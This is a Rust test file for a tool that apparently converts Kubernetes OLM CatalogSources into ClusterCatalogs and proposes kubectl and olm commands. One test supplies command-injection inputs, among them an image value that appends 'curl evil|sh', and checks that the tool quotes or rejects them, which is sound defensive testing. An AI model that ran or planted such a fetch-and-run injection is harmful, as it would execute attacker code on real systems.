use serde_json::json;

use super::*;

fn source(image: &str) -> objects::CatalogSource {
    objects::CatalogSource { image: image.to_owned(), ..Default::default() }
}

fn key(namespace: &str) -> Key {
    (namespace.to_owned(), "hub".to_owned())
}

#[test]
fn interval_is_rounded_up_to_whole_minutes() {
    for (interval, expected) in [
        ("", None),
        ("0s", None),
        ("nonsense", None),
        ("1s", Some(1)),
        ("60s", Some(1)),
        ("10m0s", Some(10)),
        ("10m1s", Some(11)),
        ("1h30m", Some(90)),
    ] {
        assert_eq!(minutes(interval), expected, "{interval}");
    }
}

#[test]
fn settings_of_source_become_those_of_catalog() {
    let full = objects::CatalogSource {
        poll_interval: "90s".to_owned(),
        priority: -5,
        image_template: "r.example/hub:v{kube_minor_version}".to_owned(),
        secrets: vec!["pull".to_owned()],
        ..source("r.example/hub:v1")
    };
    let value = |source: &objects::CatalogSource| -> Value {
        let mut value = serde_json::to_value(catalog("hub", source).0).unwrap();
        value.as_object_mut().unwrap().remove("status");
        json!([value["metadata"]["annotations"], value["spec"]])
    };
    let expected = json!([
        {"ext.olm.operatorframework.io/image-template": "r.example/hub:v{kube_minor_version}"},
        {"source": {"type": "Image", "image": {"ref": "r.example/hub:v1", "pollIntervalMinutes": 2}}, "priority": -5},
    ]);
    assert_eq!(value(&full), expected);
    assert_eq!(catalog("hub", &full).1.len(), 1);
    let digest = objects::CatalogSource { image: "r.example/hub@sha256:0".to_owned(), ..full };
    assert_eq!(value(&digest)[1]["source"]["image"], json!({"ref": "r.example/hub@sha256:0"}));
    for template in ["other.example/hub:v{kube_minor_version}", "r.example/{kube_minor_version}/hub:v1"] {
        let other =
            objects::CatalogSource { image_template: template.to_owned(), ..source("r.example/hub:v1") };
        let (planned, notes) = catalog("hub", &other);
        assert_eq!(planned.metadata.annotations, None);
        assert!(notes[0].contains("another repository than r.example/hub"), "{notes:?}");
    }
    let plain = value(&source("r.example/hub:v1"));
    let expected = json!([null, {"source": {"type": "Image", "image": {"ref": "r.example/hub:v1"}}}]);
    assert_eq!(plain, expected);
}

#[test]
fn catalog_with_bundle_is_used_before_a_new_one() {
    let offer = |names: &[&str]| Offer {
        catalogs: names.iter().map(|name| (*name).to_owned()).collect(),
        ..Offer::default()
    };
    let mut objects = Objects::default();
    objects.sources.insert(key("olm"), source("r.example/hub:v1"));
    let chosen = |objects: &Objects, names: &[&str]| {
        of_bundle(objects, &key("olm"), &offer(names)).map(|found| (found.name, found.created.is_some()))
    };
    assert_eq!(chosen(&objects, &[]), Ok(("hub".to_owned(), true)));
    // The bundle was found in the image itself.
    assert_eq!(chosen(&objects, &["r.example/hub:v1"]), Ok(("hub".to_owned(), true)));
    objects.catalogs.insert("hub".to_owned(), "r.example/other:v1".to_owned());
    assert_eq!(chosen(&objects, &[]), Ok(("hub-olm".to_owned(), true)));
    assert_eq!(chosen(&objects, &["hub"]), Ok(("hub".to_owned(), false)));
    objects.catalogs.insert("mirror".to_owned(), "r.example/hub:v1".to_owned());
    assert_eq!(chosen(&objects, &["hub", "mirror"]), Ok(("mirror".to_owned(), false)));
    assert_eq!(chosen(&objects, &["./catalog"]), Ok(("mirror".to_owned(), false)));
    objects.sources.clear();
    assert!(chosen(&objects, &[]).unwrap_err().starts_with("CatalogSource olm/hub does not exist"));
}

#[test]
fn each_source_gets_a_catalog_with_commands_and_notes() {
    let mut objects = Objects::default();
    let pod = json!({"nodeSelector": {"a": "b"}, "securityContextConfig": "restricted"});
    let full = json!({"image": "r.example/hub:v1", "priority": -5, "displayName": "Hub", "grpcPodConfig": pod,
        "updateStrategy": {"registryPoll": {"interval": "10m"}}});
    let template = "r.example/hub:v{kube_minor_version}";
    for (name, spec, annotations) in [
        ("full", full, json!({"olm.catalogImageTemplate": template})),
        ("served", json!({"image": "r.example/served:v1"}), json!({})),
        ("local", json!({"sourceType": "configmap", "configMap": "a"}), json!({})),
    ] {
        let metadata = json!({"namespace": "olm", "name": name, "annotations": annotations});
        objects.add(&json!({"apiVersion": "operators.coreos.com/v1alpha1", "kind": "CatalogSource",
            "metadata": metadata, "spec": spec}));
    }
    objects.catalogs.insert("present".to_owned(), "r.example/served:v1".to_owned());
    let all = proposed(&objects).unwrap();
    let names: Vec<(&str, bool)> = all.iter().map(|one| (one.name.as_str(), one.created.is_some())).collect();
    assert_eq!(names, [("full", true), ("", false), ("present", false)]);
    let annotate = format!(
        "kubectl annotate clustercatalog full 'ext.olm.operatorframework.io/image-template={template}'"
    );
    assert_eq!(
        all[0].notes,
        [
            "olm catalog create full r.example/hub:v1 --poll-interval 10 --priority -5",
            &annotate,
            "no counterpart of grpcPodConfig.nodeSelector, grpcPodConfig.securityContextConfig: a ClusterCatalog has \
             no pod",
            "no counterpart of displayName: lists show the name of the ClusterCatalog",
        ]
    );
    assert!(all[1].notes[0].starts_with("it has no image"), "{:?}", all[1].notes);
    assert!(all[2].notes.is_empty());
    let states: Vec<&str> = all.iter().map(|one| one.state).collect();
    assert_eq!(states, ["to create", "none", "exists"]);
}

fn installed(source: &Key, csv: &str) -> objects::Subscription {
    objects::Subscription { source: source.clone(), installed_csv: csv.to_owned(), ..Default::default() }
}

#[test]
fn catalog_of_one_namespace_is_not_proposed_for_all() {
    let mut objects = Objects::default();
    let tenant = key("tenant");
    objects.sources.insert(
        tenant.clone(),
        objects::CatalogSource { priority: i64::from(i32::MAX), ..source("r.example/tenant:v1") },
    );
    objects.subscriptions.insert(tenant.clone(), installed(&tenant, "lamp.v1"));
    let all = proposed(&objects).unwrap();
    assert_eq!((all[0].state, all[0].created.is_some()), ("not proposed", false));
    assert!(all[0].notes[0].starts_with("visible in tenant only"), "{:?}", all[0].notes);
    // Classic OLM was configured with this namespace.
    objects.subscriptions.insert(key("other"), installed(&tenant, "lamp.v1"));
    assert_eq!(proposed(&objects).unwrap()[0].state, "to create");
}

#[test]
fn one_catalog_is_proposed_per_image_and_none_for_bundles_that_are_served() {
    let mut objects = Objects::default();
    let named = |name: &str| ("olm".to_owned(), name.to_owned());
    for (name, image) in [("a", "r.example/hub:v1"), ("b", "r.example/hub:v1"), ("c", "r.example/hub:v2")] {
        objects.sources.insert(named(name), source(image));
    }
    objects.catalogs.insert("hub".to_owned(), "r.example/hub:v3".to_owned());
    let states = |objects: &Objects| -> Vec<(String, &'static str)> {
        proposed(objects).unwrap().into_iter().map(|one| (one.name, one.state)).collect()
    };
    let expected = [("a", "to create"), ("a", "same image"), ("c", "to create")];
    assert_eq!(states(&objects), expected.map(|(name, state)| (name.to_owned(), state)));
    for (package, csv) in [("lamp", "lamp.v1"), ("pipe", "pipe.v1")] {
        objects.subscriptions.insert(named(package), installed(&named("c"), csv));
        let offered = objects.offered.get_or_insert_default();
        offered.entry("lamp.v1".to_owned()).or_default().catalogs.insert("hub".to_owned());
        let state = states(&objects)[2].clone();
        // The ClusterCatalog serves only one of the two packages.
        let expected = if package == "lamp" { ("hub", "exists") } else { ("c", "to create") };
        assert_eq!(state, (expected.0.to_owned(), expected.1));
    }
}

#[test]
fn text_of_objects_is_no_command() {
    let mut objects = Objects::default();
    objects.sources.insert(key("olm"), source("r.example/x:v1;curl evil|sh"));
    let all = proposed(&objects).unwrap();
    assert_eq!((all[0].state, all[0].created.is_some()), ("none", false));
    assert!(all[0].notes[0].starts_with("no ClusterCatalog can have its image"), "{:?}", all[0].notes);
    let metadata =
        json!({"name": "a b", "annotations": {"ext.olm.operatorframework.io/image-template": "x'$(y)"}});
    let all = commands(&json!({"metadata": metadata, "spec": {"source": {"image": {"ref": "a;b"}}}}));
    assert_eq!(all[0], "olm catalog create 'a b' 'a;b'");
    let quoted = r"'ext.olm.operatorframework.io/image-template=x'\''$(y)'";
    assert_eq!(all[1], format!("kubectl annotate clustercatalog 'a b' {quoted}"));
}

#[test]
fn without_the_list_of_catalogs_nothing_is_proposed() {
    let mut objects = Objects::default();
    objects.sources.insert(key("olm"), source("r.example/hub:v1"));
    objects.unreadable.push("clustercatalogs: forbidden".to_owned());
    let all = proposed(&objects).unwrap();
    assert_eq!((all[0].state, all[0].created.is_some()), ("unknown", false));
}

#[test]
fn other_settings_of_an_existing_catalog_are_named() {
    let mut objects = Objects::default();
    let template = "r.example/hub:v{kube_minor_version}";
    let full = objects::CatalogSource {
        priority: 5,
        image_template: template.to_owned(),
        unmatched: vec!["displayName".to_owned()],
        ..source("r.example/hub:v1")
    };
    objects.sources.insert(key("olm"), full);
    let mut add = |priority: i64, template: &str| {
        let metadata = json!({"name": "present", "annotations": {"ext.olm.operatorframework.io/image-template": template}});
        objects.add(&json!({"apiVersion": "olm.operatorframework.io/v1", "kind": "ClusterCatalog", "metadata": metadata,
            "spec": {"priority": priority, "source": {"image": {"ref": "r.example/hub:v1"}}}}));
        proposed(&objects).unwrap().remove(0).notes
    };
    let shown = "no counterpart of displayName: lists show the name of the ClusterCatalog";
    assert_eq!(add(5, template), [shown]);
    let expected = format!("priority 0 and image template \"\", but 5 and {template:?} of the CatalogSource");
    assert_eq!(add(0, ""), [shown, expected.as_str()]);
}

#[test]
fn sources_of_the_same_name_become_catalogs_with_the_namespace() {
    let mut objects = Objects::default();
    objects.sources.insert(key("a"), source("r.example/a:v1"));
    assert_eq!(name(&objects, &key("a")), "hub");
    objects.sources.insert(key("b"), source("r.example/b:v1"));
    assert_eq!(name(&objects, &key("a")), "hub-a");
    assert_eq!(name(&objects, &key("b")), "hub-b");
}
